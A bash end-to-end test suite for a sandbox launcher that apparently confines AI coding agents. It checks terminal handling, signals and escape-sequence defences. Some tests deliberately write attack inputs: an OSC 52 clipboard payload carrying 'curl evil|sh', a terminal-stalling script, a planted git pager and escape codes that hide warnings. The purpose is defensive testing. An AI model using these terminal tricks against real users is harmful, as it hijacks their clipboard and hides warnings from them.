# shellcheck shell=bash
# Terminals (issue 8): driven through tmux as the test user.  The command
# gets a pty of the cage's own; the launcher relays it with the outer
# terminal in raw mode and restores it at the end.

if ! command -v tmux >/dev/null; then
	skip "terminal tests" "tmux is not installed"
	return 0 2>/dev/null || exit 0
fi

TT=$(mktemp -d /tmp/ltd-e2e-tty.XXXXXX)
chmod 777 "$TT"
TN=0

# One tmux server per session: a new session on a server that is still
# shutting down can fail.
tm() { as_user tmux -L "ltd-e2e-$$-$TN" "$@"; }

# wait_pane REGEX: the visible pane matches within 5 s; the pane in $PANE.
wait_pane() {
	for _ in $(seq 100); do
		PANE=$(tm capture-pane -p 2>/dev/null)
		printf '%s\n' "$PANE" | grep -Eq -- "$1" && return 0
		sleep 0.05
	done
	return 1
}

# start_tty CMD...: a tmux session whose shell records the outer terminal's
# modes, runs ltd-native, and records them again with the exit status.
start_tty() {
	tm kill-server 2>/dev/null
	TN=$((TN + 1))
	tm new-session -d -x 80 -y 24 -c "$PROJ" \
		"stty -g > $TT/before; $LTD run --ro-bind $STAGE $STAGE --network none -- $*; echo \$? > $TT/rc; stty -g > $TT/after; sleep 60"
}

wait_file() {
	for _ in $(seq 100); do
		[ -s "$1" ] && return 0
		sleep 0.05
	done
	return 1
}

rm -f "$TT"/*
start_tty bash --norc --noprofile -i
if wait_pane 'bash.*\$ ?$'; then
	pass "tty: a shell prompt appears"
else
	fail "tty: a shell prompt appears" "$PANE"
fi
tm send-keys 'PS1="cage> "' Enter
wait_pane '^cage> ?$' >/dev/null
tm send-keys 'tty; stty size' Enter
wait_pane '^24 80$' && pass "tty: the pty has the outer terminal's size" ||
	fail "tty: the pty has the outer terminal's size" "$PANE"
printf '%s\n' "$PANE" | grep -Eq '^/dev/pts/[0-9]+$' &&
	pass "tty: the command's terminal is a pty" ||
	fail "tty: the command's terminal is a pty" "$PANE"
tm resize-window -x 100 -y 30
sleep 0.2
tm send-keys 'clear; stty size' Enter
wait_pane '^30 100$' && pass "tty: stty size follows a resize of the window" ||
	fail "tty: stty size follows a resize of the window" "$PANE"
tm send-keys 'clear; sleep 100' Enter
sleep 0.5
tm send-keys C-c
tm send-keys 'echo "alive $?"' Enter
wait_pane '^alive 130$' && pass "tty: Ctrl-C interrupts sleep, the cage lives on" ||
	fail "tty: Ctrl-C interrupts sleep, the cage lives on" "$PANE"
tm send-keys 'clear; sleep 100' Enter
sleep 0.5
tm send-keys C-z
tm send-keys 'echo "stopped: $(jobs -s | grep -c sleep)"' Enter
wait_pane '^stopped: 1$' && pass "tty: Ctrl-Z stops the foreground job" ||
	fail "tty: Ctrl-Z stops the foreground job" "$PANE"
tm send-keys 'kill -KILL %1' Enter
tm send-keys 'exit 3' Enter
# bash refuses the first exit while it still lists a stopped job.
wait_file "$TT/after" || tm send-keys 'exit 3' Enter
if wait_file "$TT/after"; then
	[ "$(cat "$TT/rc")" = 3 ] && pass "tty: the exit status passes through" ||
		fail "tty: the exit status passes through ($(cat "$TT/rc"))"
	cmp -s "$TT/before" "$TT/after" &&
		pass "tty: exiting restores the outer terminal" ||
		fail "tty: exiting restores the outer terminal" "$(cat "$TT/before" "$TT/after")"
else
	fail "tty: the shell exits" "$PANE"
fi

rm -f "$TT"/*
start_tty sh -c "'kill -KILL \$\$'"
if wait_file "$TT/after"; then
	[ "$(cat "$TT/rc")" = 137 ] && pass "tty: a SIGKILLed command is 137" ||
		fail "tty: a SIGKILLed command is 137 ($(cat "$TT/rc"))"
	cmp -s "$TT/before" "$TT/after" &&
		pass "tty: the outer terminal is restored after SIGKILL of the command" ||
		fail "tty: the outer terminal is restored after SIGKILL of the command"
else
	fail "tty: a SIGKILLed command ends the run" "$(tm capture-pane -p)"
fi

# An exec session's terminal is its own: nothing else in the cage can open
# it (an agent must not read what a user types there).
tm kill-server 2>/dev/null
TN=$((TN + 1))
(cd "$PROJ" && exec "${USER_CMD[@]}" "$LTD" run --ro-bind "$STAGE" "$STAGE" --network none \
	--name e2e-tty --keep-running -- sleep 300 >/dev/null 2>&1) &
ttycage=$!
for _ in $(seq 100); do
	as_user "$LTD" ps 2>/dev/null | grep -q e2e-tty && break
	sleep 0.05
done
tm new-session -d -x 80 -y 24 -c "$PROJ" "$LTD exec e2e-tty -- sh -c 'echo exec-up; sleep 30'"
if wait_pane '^exec-up'; then
	ltd exec e2e-tty -- sh -c 'ls /dev/pts | grep -vc ptmx'
	expect_out "an exec session's terminal is not in the cage's /dev/pts" "^0$"
else
	fail "tty: an exec session starts" "$PANE"
fi

# exec with stdin from a pipe and stderr the user's terminal: as with run,
# the terminal reaches the command write-only.
cat > "$TT/piped-exec.sh" <<PIPED
echo | "$LTD" exec e2e-tty -- sh -c 'sleep 1; if read x <&2; then echo "READ=\$x"; else echo READ-REFUSED; fi'
sleep 60
PIPED
tm kill-server 2>/dev/null
TN=$((TN + 1))
tm new-session -d -x 80 -y 24 -c "$PROJ" "sh $TT/piped-exec.sh"
sleep 0.3
tm send-keys 'typed-by-user' Enter
if wait_pane '^READ'; then
	printf '%s\n' "$PANE" | grep -q '^READ-REFUSED' &&
		pass "tty: a terminal on stderr cannot be read by an exec'd command" ||
		fail "tty: a terminal on stderr cannot be read by an exec'd command" "$PANE"
else
	fail "tty: the piped exec ends" "$PANE"
fi
as_user "$LTD" kill e2e-tty >/dev/null 2>&1
wait "$ttycage" 2>/dev/null

# stdin from a pipe, stderr the user's terminal: no pty, and the terminal
# reaches the command write-only.  Open for reading, it would give the
# command what the user types while it runs.
cat > "$TT/piped.sh" <<PIPED
echo | "$LTD" run --ro-bind "$STAGE" "$STAGE" --network none -- sh -c 'sleep 1; if read x <&2; then echo "READ=\$x"; else echo READ-REFUSED; fi'
sleep 60
PIPED
tm kill-server 2>/dev/null
TN=$((TN + 1))
tm new-session -d -x 80 -y 24 -c "$PROJ" "sh $TT/piped.sh"
sleep 0.3
tm send-keys 'typed-by-user' Enter
if wait_pane '^READ'; then
	printf '%s\n' "$PANE" | grep -q '^READ-REFUSED' &&
		pass "tty: a terminal on stderr cannot be read by the command" ||
		fail "tty: a terminal on stderr cannot be read by the command" "$PANE"
else
	fail "tty: the piped run ends" "$PANE"
fi

tm kill-server 2>/dev/null
rm -rf "$TT"

# pasta runs on the host beside a terminal session: it gets the terminal
# write-only (or /dev/null), never the read-write one the user types into.
if command -v pasta >/dev/null && [ -w /dev/net/tun ]; then
	tm kill-server 2>/dev/null
	TN=$((TN + 1))
	rm -f "$TT/up"
	tm new-session -d -x 80 -y 24 -c "$PROJ" \
		"$LTD run --ro-bind $STAGE $STAGE -- sh -c 'touch $PROJ/tty-up; sleep 5'; sleep 30"
	for _ in $(seq 100); do [ -e "$PROJ/tty-up" ] && break; sleep 0.05; done
	pasta_pid=$(user_procs '/pasta -f ' | awk '{print $1}' | head -1)
	flags=$(sed -n 's/^flags:[[:space:]]*//p' "/proc/$pasta_pid/fdinfo/2" 2>/dev/null)
	if [ -n "$pasta_pid" ] && [ -n "$flags" ] && [ $((0$flags & 3)) = 1 ]; then
		pass "tty: pasta's stderr is not the read-write terminal"
	else
		fail "tty: pasta's stderr is not the read-write terminal" \
			"pid $pasta_pid flags $flags -> $(readlink "/proc/$pasta_pid/fd/2")"
	fi
	as_user rm -f "$PROJ/tty-up"
	tm kill-server 2>/dev/null
fi

# Without a pty (stdin not a terminal) the command gets the user's terminal
# on stdout/stderr, write-only, and ioctl is open but for TIOCSTI/TIOCLINUX:
# it can clear IXON and stop the terminal's output (TCXONC TCOOFF).  The
# launcher then blocks for good writing its own report to the same
# terminal (here the quarantine warning), and so does the user's shell;
# Ctrl-Q no longer restarts it.
TS=$(mktemp -d /tmp/ltd-e2e-stall.XXXXXX); chmod 777 "$TS"
tms() { as_user tmux -L "ltd-e2e-stall-$$" "$@"; }
cat > "$TS/stop.py" <<'PY'
import termios
a = termios.tcgetattr(1)
a[0] &= ~termios.IXON
termios.tcsetattr(1, termios.TCSANOW, a)
termios.tcflow(1, termios.TCOOFF)
import os
os.makedirs(".claude", exist_ok=True)
open(".claude/settings.local.json", "w").write("{}")
PY
chmod 644 "$TS/stop.py"
as_user mkdir -p "$PROJ/.claude"
tms new-session -d -x 80 -y 24 -c "$PROJ" \
	"$LTD run --ro-bind $STAGE $STAGE --ro-bind $TS $TS --network none -- python3 $TS/stop.py </dev/null; echo \$? > $TS/rc; sleep 60"
for _ in $(seq 100); do [ -s "$TS/rc" ] && break; sleep 0.1; done
tms send-keys C-q
sleep 1
if [ -s "$TS/rc" ]; then
	pass "tty stall: the launcher finishes when the command stopped the terminal"
else
	pids=$(pgrep -u "$U_UID" -x ltd-native | tr '\n' ' ')
	wchan=$(for p in $pids; do cat /proc/$p/wchan 2>/dev/null; echo; done)
	fail "tty stall: the launcher finishes when the command stopped the terminal" \
		"launcher pids: $pids; wchan: $wchan; stty: $(as_user stty -a -F "$(tms display -p '#{pane_tty}')" 2>&1 | head -3)"
	for p in $pids; do kill -KILL "$p"; done
fi
tms kill-server 2>/dev/null
as_user rm -rf "$PROJ/.claude"
rm -rf "$TS"

# The command's last output can hide what the launcher says after it: an
# escape string left open (an OSC title swallows what follows) or hidden
# text (SGR 8).  The warning of a repository it planted must show.
TH=$(mktemp -d /tmp/ltd-e2e-hide.XXXXXX); chmod 777 "$TH"
tmh() { as_user tmux -L "ltd-e2e-hide-$$" "$@"; }
for how in conceal osc margins; do
	case $how in
	conceal) tail='done\033[8m' ;;
	osc) tail='done\033]0;' ;;
	# A two-line scroll region and no autowrap: the warning cut at the
	# margin, drawn over earlier lines.
	margins) tail='done\033[1;2r\033[?7l' ;;
	esac
	rm -f "$TH/rc"
	tmh new-session -d -x 200 -y 40 -c "$PROJ" \
		"$LTD run --ro-bind $STAGE $STAGE --network none -- sh -c \"git init -q hide-$how && git -C hide-$how config core.pager 'sh ./p'; printf '$tail'\" </dev/null; echo \$? > $TH/rc; sleep 60"
	for _ in $(seq 100); do [ -s "$TH/rc" ] && break; sleep 0.1; done
	sleep 0.3
	tmh capture-pane -e -p -J > "$TH/pane"
	# Visible: the warning's text is on the screen whole, and no hiding
	# attribute is in force where it starts.
	if python3 - "$TH/pane" "hide-$how" <<'PY'; then
import re, sys
pane = open(sys.argv[1], encoding="utf-8", errors="replace").read()
m = re.search(r"ltd-native: warning: [^\n]*" + re.escape(sys.argv[2]) +
              r"[^\n]*review it before you run git there on the host", pane)
if not m:
    sys.exit(1)
at = m.start()
hidden = False
for m in re.finditer(r"\x1b\[([0-9;]*)m", pane[:at]):
    for p in (m.group(1) or "0").split(";"):
        if p in ("", "0", "28"):
            hidden = False
        elif p == "8":
            hidden = True
sys.exit(1 if hidden else 0)
PY
		pass "tty: a warning after output that ends in $how is visible"
	else
		fail "tty: a warning after output that ends in $how is visible" "$(cat -v "$TH/pane" | grep -v '^$')"
	fi
	tmh kill-server 2>/dev/null
	as_user rm -rf "$PROJ/hide-$how"
done
rm -rf "$TH"

# The clipboard through the terminal (OSC 52).  tmux with set-clipboard on
# takes an application's OSC 52 into its paste buffer (and passes it on to
# the terminal it runs in): a command in the cage could put `curl evil|sh`
# where the user pastes next, or read the clipboard back.  The relays drop
# it (also wrapped in tmux's DCS passthrough) unless --allow-clipboard;
# bytes to a file are not touched.
CB=$(mktemp -d /tmp/ltd-e2e-clip.XXXXXX)
chmod 777 "$CB"
CLIP=Y3VybCBldmlsfHNo # "curl evil|sh"
printf "printf '\\\\033]52;c;%s\\\\a'\n" "$CLIP" >"$CB/osc52.sh"
printf "printf '\\\\033Ptmux;\\\\033\\\\033]52;c;%s\\\\a\\\\033\\\\\\\\\\\\\\\\'\n" "$CLIP" >"$CB/dcs52.sh"
chmod 644 "$CB"/*.sh
CN=0
tmc() { as_user tmux -L "ltd-e2e-clip-$$-$CN" "$@"; }
# clip_pane CMD: CMD in a new tmux server's window (set-clipboard on), its
# exit status in $CB/rc; then the server's paste buffers in $BUFS and the
# pane in $PANE.
clip_pane() {
	tmc kill-server 2>/dev/null
	CN=$((CN + 1))
	rm -f "$CB/rc"
	tmc new-session -d -x 120 -y 30 -c "$PROJ" "sleep 60"
	tmc set -g set-clipboard on
	tmc new-window -c "$PROJ" "$1; echo \$? > $CB/rc; sleep 60"
	for _ in $(seq 200); do [ -s "$CB/rc" ] && break; sleep 0.05; done
	sleep 0.3
	BUFS=$(tmc list-buffers 2>&1)
	PANE=$(tmc capture-pane -p -J)
}
RUN_CB="$LTD run --ro-bind $STAGE $STAGE --ro-bind $CB $CB --network none"

clip_pane "$RUN_CB -- sh $CB/osc52.sh"
if printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
	fail "clipboard: an OSC 52 from the cage does not reach tmux's paste buffer" "$BUFS"
else
	pass "clipboard: an OSC 52 from the cage does not reach tmux's paste buffer"
fi
printf '%s\n' "$PANE" | grep -q 'warning: the command wrote 1 clipboard sequence (OSC 52) .*dropped' &&
	pass "clipboard: the exit report says how many were dropped" ||
	fail "clipboard: the exit report says how many were dropped" "$PANE"
clip_pane "$RUN_CB --allow-clipboard -- sh $CB/osc52.sh"
printf '%s\n' "$BUFS" | grep -q 'curl evil|sh' &&
	pass "clipboard: --allow-clipboard lets it through (the test sees one)" ||
	fail "clipboard: --allow-clipboard lets it through (the test sees one)" "$BUFS"
clip_pane "$RUN_CB -- sh $CB/osc52.sh </dev/null"
if printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
	fail "clipboard: dropped on the terminal-on-stdout relay too (no pty)" "$BUFS"
else
	pass "clipboard: dropped on the terminal-on-stdout relay too (no pty)"
fi
clip_pane "$RUN_CB -- sh $CB/osc52.sh > $CB/out.bin"
if grep -q "]52;c;$CLIP" "$CB/out.bin" 2>/dev/null; then
	pass "clipboard: bytes to a file are not touched"
else
	fail "clipboard: bytes to a file are not touched" "$(od -c "$CB/out.bin" | head -5)"
fi
# tmux inside tmux: the inner one (allow-passthrough on) unwraps its DCS
# passthrough and hands the OSC 52 to the outer one.
cat >"$CB/inner.sh" <<INNER
tmux -L ltd-e2e-clipin-$$ -f /dev/null new-session -d -x 100 -y 25 -c "$PROJ" "sleep 60"
tmux -L ltd-e2e-clipin-$$ set -g allow-passthrough on
tmux -L ltd-e2e-clipin-$$ new-window -c "$PROJ" "$RUN_CB -- sh $CB/dcs52.sh; echo \\\$? > $CB/rc-in; sleep 60"
tmux -L ltd-e2e-clipin-$$ attach
INNER
chmod 644 "$CB/inner.sh"
rm -f "$CB/rc-in"
tmc kill-server 2>/dev/null
CN=$((CN + 1))
tmc new-session -d -x 120 -y 30 -c "$PROJ" "sleep 60"
tmc set -g set-clipboard on
tmc new-window -c "$PROJ" "sh $CB/inner.sh"
for _ in $(seq 200); do [ -s "$CB/rc-in" ] && break; sleep 0.05; done
sleep 0.5
BUFS=$(tmc list-buffers 2>&1)
if [ ! -s "$CB/rc-in" ]; then
	fail "clipboard: the cage runs inside nested tmux" "$(tmc capture-pane -p)"
elif printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
	fail "clipboard: an OSC 52 in tmux's DCS passthrough does not reach the outer tmux" "$BUFS"
else
	pass "clipboard: an OSC 52 in tmux's DCS passthrough does not reach the outer tmux"
fi
as_user tmux -L "ltd-e2e-clipin-$$" kill-server 2>/dev/null
# exec's relay: a command exec'd into a named cage.
(cd "$PROJ" && exec "${USER_CMD[@]}" "$LTD" run --ro-bind "$STAGE" "$STAGE" --ro-bind "$CB" "$CB" \
	--network none --name e2e-clip --keep-running -- sleep 300 >/dev/null 2>&1) &
clipcage=$!
for _ in $(seq 100); do
	as_user "$LTD" ps 2>/dev/null | grep -q e2e-clip && break
	sleep 0.05
done
clip_pane "$LTD exec e2e-clip -- sh $CB/osc52.sh"
if printf '%s\n' "$BUFS" | grep -q 'curl evil'; then
	fail "clipboard: an OSC 52 from an exec'd command does not reach the paste buffer" "$BUFS"
else
	pass "clipboard: an OSC 52 from an exec'd command does not reach the paste buffer"
fi
printf '%s\n' "$PANE" | grep -q 'warning: the command wrote 1 clipboard sequence' &&
	pass "clipboard: exec says it dropped one" ||
	fail "clipboard: exec says it dropped one" "$PANE"
as_user "$LTD" kill e2e-clip >/dev/null 2>&1
wait "$clipcage" 2>/dev/null
tmc kill-server 2>/dev/null
rm -rf "$CB"

# The exit reset undoes what the command turned on, and only that.  tmux
# shows the pane's modes (#{alternate_on}, #{cursor_flag}...).
TR=$(mktemp -d /tmp/ltd-e2e-reset.XXXXXX)
chmod 777 "$TR"
RN=0
tmr() { as_user tmux -L "ltd-e2e-reset-$$-$RN" "$@"; }
# reset_pane BEFORE SCRIPT: a pane whose shell runs BEFORE, then the
# command SCRIPT (a file in $TR) in the cage, then prints rc=N; the
# pane's text in $PANE and its modes in $MODES after.
reset_pane() {
	tmr kill-server 2>/dev/null
	RN=$((RN + 1))
	rm -f "$TR/rc"
	tmr new-session -d -x 80 -y 24 -c "$PROJ" \
		"$1; $LTD run --ro-bind $STAGE $STAGE --ro-bind $TR $TR --network none -- sh $TR/$2; echo rc=\$? > $TR/rc; echo rc=done; sleep 60"
	for _ in $(seq 200); do [ -s "$TR/rc" ] && break; sleep 0.05; done
	sleep 0.3
	PANE=$(tmr capture-pane -p)
	MODES=$(tmr display -p 'alt=#{alternate_on} cursor=#{cursor_flag} keypad=#{keypad_flag} ckeys=#{keypad_cursor_flag} insert=#{insert_flag} mouse=#{mouse_any_flag} origin=#{origin_flag} wrap=#{wrap_flag}')
}
# Lines, and no alternate screen left on: the cursor a stale save would
# send back to the top (Codex saves it when it enters the alternate
# screen, and leaves it itself).
cat >"$TR/lines.sh" <<'LINES'
printf '\033[?1049h\033[?1049l'
i=1
while [ $i -le 30 ]; do echo "line-$i"; i=$((i + 1)); done
echo last-line
LINES
reset_pane "clear" lines.sh
if printf '%s\n' "$PANE" | grep -A1 '^last-line$' | grep -q '^rc=done$'; then
	pass "reset: a command's last lines stay on screen (no stale cursor restore)"
else
	fail "reset: a command's last lines stay on screen (no stale cursor restore)" "$PANE"
fi
# Modes left on are undone: the alternate screen, cursor keys, keypad,
# insert mode, mouse reporting, origin mode, a hidden cursor, no wrap.
cat >"$TR/modes.sh" <<'MODES'
printf 'on-the-alternate-screen\033[?1049h\033[?1h\033=\033[4h\033[?1000h\033[?1006h\033[?25l\033[?7l\033[?6h\033[?2004h'
MODES
reset_pane "clear; echo main-screen-marker" modes.sh
[ "$MODES" = "alt=0 cursor=1 keypad=0 ckeys=0 insert=0 mouse=0 origin=0 wrap=1" ] &&
	pass "reset: every mode the command left on is undone" ||
	fail "reset: every mode the command left on is undone" "$MODES"
printf '%s\n' "$PANE" | grep -q '^main-screen-marker' &&
	pass "reset: the main screen is back" || fail "reset: the main screen is back" "$PANE"
# What the command did not change is not changed: a cursor the user's
# shell hid stays hidden.
cat >"$TR/plain.sh" <<'PLAIN'
echo plain
PLAIN
reset_pane "printf '\\033[?25l'" plain.sh
printf '%s\n' "$MODES" | grep -q 'cursor=0' &&
	pass "reset: a mode the command did not touch is left as it was" ||
	fail "reset: a mode the command did not touch is left as it was" "$MODES"
tmr kill-server 2>/dev/null
rm -rf "$TR"

# The user's terminal goes away: the cage's terminal session ends.  As it
# was seen: root's tmux, a pane running `runuser -u USER -- ltd-native run
# -- bash -i`, the pane killed.  runuser blocks SIGHUP while it waits, so
# the launcher gets no signal: only its reads from the terminal end.  A
# generous bound, no timed assertion.
if [ "$AS_ROOT" = 1 ] && command -v runuser >/dev/null; then
	tmh() { tmux -L "ltd-e2e-hup-$$" "$@"; }
	RU="runuser -u $E2E_USER -- env -i HOME=$U_HOME PATH=/usr/local/bin:/usr/bin:/bin TERM=xterm"
	# hup_case NAME MARKER CMD: CMD in the pane (alone: runuser is the
	# session leader, as when it was seen; behind a shell, the shell's
	# exit would signal the job); once a shell whose command line holds
	# MARKER runs, the pane is killed; ltd-native and that shell must end.
	hup_case() {
		local name=$1 marker=$2 cmd=$3 pid="" gone=0
		tmh kill-server 2>/dev/null
		tmh new-session -d -x 80 -y 24 -c "$PROJ" "$cmd"
		for _ in $(seq 200); do
			pid=$(user_procs "$marker" | awk '{print $1}' | head -1)
			[ -n "$pid" ] && break
			sleep 0.05
		done
		sleep 0.5
		if [ -z "$pid" ]; then
			fail "hangup ($name): the shell starts" "$(tmh capture-pane -p)"
			tmh kill-server 2>/dev/null
			return
		fi
		front=$(user_procs "$LTD [a-z]+ .*$marker" | awk '{print $1}' | head -1)
		tmh kill-pane -t 0
		for _ in $(seq 600); do
			if ! user_procs "$marker" >/dev/null &&
				{ [ -z "$front" ] || ! kill -0 "$front" 2>/dev/null; }; then
				gone=1
				break
			fi
			sleep 0.1
		done
		if [ "$gone" = 1 ]; then
			pass "hangup ($name): the pane killed, the shell and ltd-native end"
		else
			fail "hangup ($name): the pane killed, the shell and ltd-native end" \
				"$(user_procs "$marker|$LTD")"
			for p in $(user_procs "$marker" | awk '{print $1}') $front; do kill -KILL "$p" 2>/dev/null; done
		fi
		tmh kill-server 2>/dev/null
	}
	hup_case run "bash --norc --noprofile -i -o noclobber" \
		"$RU $LTD run --ro-bind $STAGE $STAGE --network none -- bash --norc --noprofile -i -o noclobber"
	# With stderr in a file, it says what happened there.
	HUPF=$(as_user mktemp "$U_HOME/e2e-hup.XXXXXX")
	hup_case "run, stderr to a file" "bash --norc --noprofile -i -o nounset" \
		"$RU sh -c 'exec $LTD run --ro-bind $STAGE $STAGE --network none -- bash --norc --noprofile -i -o nounset 2>$HUPF'"
	grep -q "warning: your terminal went away: the command's terminal was hung up" "$HUPF" &&
		pass "hangup: ltd-native says so where it can be read" ||
		fail "hangup: ltd-native says so where it can be read" "$(cat "$HUPF")"
	as_user rm -f "$HUPF"
	(cd "$PROJ" && exec "${USER_CMD[@]}" "$LTD" run --ro-bind "$STAGE" "$STAGE" --network none \
		--name e2e-hup --keep-running -- sleep 300 >/dev/null 2>&1) &
	hupcage=$!
	for _ in $(seq 100); do
		as_user "$LTD" ps 2>/dev/null | grep -q e2e-hup && break
		sleep 0.05
	done
	hup_case exec "bash --norc --noprofile -i -o noglob" \
		"$RU $LTD exec e2e-hup -- bash --norc --noprofile -i -o noglob"
	as_user "$LTD" ps 2>/dev/null | grep -q e2e-hup &&
		pass "hangup (exec): the named cage itself lives on" ||
		fail "hangup (exec): the named cage itself lives on"
	as_user "$LTD" kill e2e-hup >/dev/null 2>&1
	wait "$hupcage" 2>/dev/null
else
	skip "hangup tests" "need root (runuser) to test as the issue saw it"
fi
